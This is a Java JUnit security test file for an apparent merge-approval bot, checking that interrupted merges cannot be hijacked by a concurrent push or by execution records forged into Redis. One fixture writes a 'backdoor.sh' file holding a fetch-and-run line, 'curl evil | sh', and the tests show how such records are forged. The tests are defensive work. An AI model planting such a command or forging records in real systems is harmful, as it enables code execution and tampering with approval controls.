package dev.quorum.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.quorum.action.InterruptedMerge;
import dev.quorum.approval.Subject;
import dev.quorum.request.RequestStore;
import dev.quorum.store.Redis;
import dev.quorum.testing.QuorumHarness;
import dev.quorum.testing.TestRedis;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;

import static dev.quorum.action.InterruptedMerge.await;
import static dev.quorum.action.InterruptedMerge.outcome;
import static dev.quorum.action.InterruptedMerge.request;
import static dev.quorum.testing.GitHttpServer.git;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks on finishing an interrupted merge from the target ref: what someone else puts on the target while Quorum is
 * down must not count as Quorum's landing, and an execution record written into Redis by hand must not make Quorum land
 * anything but the approved subject's commit. Real Quorum processes, real git, {@link dev.quorum.github.FakeGitHub}.
 */
class InterruptedMergeAttackTest {
    private static final String EXECUTION = "{q}:exec:R1";
    @TempDir
    Path dir;

    /**
     * Quorum dies before its push lands; meanwhile someone pushes to {@code main} a commit with exactly the tested tree
     * (their own merge of the pull request). The same tree is not Quorum's landing: the exact tested commit is not there,
     * so the request goes stale, and Quorum pushes nothing over it.
     */
    @Test
    void theSameTreePushedByOthersDuringTheInterruptionIsNotCountedAsLandedByQuorum() throws Exception {
        try (InterruptedMerge merge = new InterruptedMerge(dir, null)) {
            merge.approveAndKill(InterruptedMerge.KillAt.BEFORE_LANDING);
            Path scratch = Files.createDirectories(dir.resolve("someone"));
            git(scratch, "init", "-q");
            git(scratch, "fetch", "-q", merge.shop.bare().toString(), "+refs/heads/main:refs/heads/main", "+refs/heads/feature/x:refs/heads/x");
            git(scratch, "checkout", "-q", "main");
            git(scratch, "-c", "user.name=someone", "-c", "user.email=someone@example.com", "merge", "-q", "--no-ff", "-m", "their merge", "x");
            git(scratch, "push", "-q", merge.shop.bare().toString(), "HEAD:refs/heads/main");
            String theirs = git(scratch, "rev-parse", "HEAD").strip();

            QuorumHarness q = merge.takeOver();
            String reply = outcome(q);
            String tested = request(q).get("subject").get("merge_sha").asText();
            assertThat(git(dir.resolve("data-first/mirrors/shop.git"), "rev-parse", tested + "^{tree}"))
                    .as("the attack's premise: their commit has exactly the tested tree").isEqualTo(git(scratch, "rev-parse", "HEAD^{tree}"));
            assertThat(theirs).isNotEqualTo(tested);
            assertThat(reply).isEqualTo("R1 is stale: pull request #" + merge.pr + " was merged elsewhere. Its votes are void and nothing "
                    + "was changed; propose it again to vote on the new state.");
            assertThat(request(q).get("state").asText()).isEqualTo("stale");
            assertThat(merge.shop.head("main")).as("their commit stays; Quorum pushed nothing over it").contains(theirs);
        }
    }

    /** A record naming another commit, written before the votes, makes Quorum land nothing (and never that commit). */
    @Test
    void aForgedIntentNamingAnotherCommitLandsNothing() throws Exception {
        try (InterruptedMerge merge = new InterruptedMerge(dir, null)) {
            String evil = merge.shop.pushTo("evil", Map.of("backdoor.sh", "curl evil | sh\n"));
            QuorumHarness q = merge.takeOver();
            Subject subject = proposed(q, merge.pr);
            try (Redis redis = Redis.connect(TestRedis.uri())) {
                redis.sync().hset(EXECUTION, intent(subject, evil));
            }
            approve(q);

            assertThat(outcome(q)).isEqualTo("Failed: R1 — its execution record does not match what was approved (another commit than "
                    + "the approved one), so nothing landed. Check `main` and propose the merge again.");
            assertThat(merge.shop.head("main")).as("main did not move, to the forged commit or any other").contains(merge.main);
            JsonNode audit = q.get("/api/audit").json().get("entries");
            assertThat(audit.findValues("type").stream().map(JsonNode::asText)).contains("merge.intent_mismatch");
        }
    }

    /**
     * A record that claims the landing happened (finished, ok) while {@code main} is still at the voted base decides
     * nothing: the ref does. Quorum lands the approved commit itself, once, and does not report a landing that never was.
     */
    @Test
    void aForgedRecordClaimingTheMergeLandedDoesNotMakeItDoneWithoutTheTargetRef() throws Exception {
        try (InterruptedMerge merge = new InterruptedMerge(dir, null)) {
            QuorumHarness q = merge.takeOver();
            Subject subject = proposed(q, merge.pr);
            Map<String, String> claim = new HashMap<>(intent(subject, subject.resultSha()));
            claim.putAll(Map.of("finished_at", String.valueOf(System.currentTimeMillis()), "ok", "true", "summary", "landed"));
            try (Redis redis = Redis.connect(TestRedis.uri())) {
                redis.sync().hset(EXECUTION, claim);
            }
            approve(q);

            String reply = outcome(q);
            assertThat(reply).startsWith("Done: R1 — `main` is now " + subject.resultSha().substring(0, 7));
            assertThat(merge.shop.head("main")).as("landed by this execution's own push").contains(subject.resultSha());
            assertThat(InterruptedMerge.executions(q)).singleElement().satisfies(e -> assertThat(e.get("data").has("note")).isFalse());
        }
    }

    /** What an attacker with write access to Redis copies from Quorum's own records: everything right but {@code commit}. */
    private static Map<String, String> intent(Subject s, String commit) {
        return Map.of("started_at", String.valueOf(System.currentTimeMillis()), "action", "merge", "landing", "push",
                "commit", commit, "tested", commit, "base", s.targetSha(), "subject_digest", s.digest(), "fence", "1");
    }

    private static Subject proposed(QuorumHarness q, int pr) throws Exception {
        assertThat(q.say("alice", "merge #" + pr).json().get("request_id").asText()).isEqualTo("R1");
        try (Redis redis = Redis.connect(TestRedis.uri())) {
            await("R1 to await approval", () -> "awaiting_approval".equals(redis.sync().hget(RequestStore.key("R1"), "state")));
        }
        @SuppressWarnings("unchecked")
        Map<String, Object> map = new ObjectMapper().convertValue(request(q).get("subject"), Map.class);
        return Subject.fromMap(map);
    }

    private static void approve(QuorumHarness q) throws Exception {
        q.say("bob", "approve R1");
        q.say("carol", "approve R1");
    }
}
